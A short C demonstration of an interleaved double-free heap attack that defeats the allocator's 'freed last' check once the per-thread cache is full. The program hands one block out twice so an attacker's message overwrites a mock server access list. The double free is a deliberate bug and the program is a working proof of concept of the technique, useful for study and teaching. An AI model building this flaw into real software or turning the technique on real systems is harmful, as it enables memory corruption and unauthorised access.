// Interleaved double free: a, b, a.
//
// A cache of connections forgets which ones it has closed. The check "is this the block freed last?" sees nothing, as
// another block was freed in between, and the quick cache of freed blocks is full.
// The attacker gains: the same block is handed out twice, once to the access list, once to him.
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

enum { SIZE = 56, CACHE = 7 };

static void* volatile connections[CACHE + 2];

int main(void) {
  for (int i = 0; i < CACHE + 2; i++) connections[i] = malloc(SIZE);
  for (int i = 0; i < CACHE; i++) free(connections[i]);
  free(connections[CACHE]);
  free(connections[CACHE + 1]);
  free(connections[CACHE]);  // bug: closed a second time

  char* blocks[CACHE + 3];
  for (int i = 0; i < CACHE + 3; i++) {
    blocks[i] = malloc(SIZE);
    for (int k = 0; k < i; k++) {
      if (blocks[k] != blocks[i]) continue;
      strcpy(blocks[k], "deny: everyone");   // the server's access list
      strcpy(blocks[i], "allow: mallory");   // the attacker's message
      printf("ATTACK SUCCEEDED: the access list at %p says \"%s\"\n", (void*)blocks[k], blocks[k]);
      return 0;
    }
  }
  puts("attack failed: no block was handed out twice");
  return 1;
}
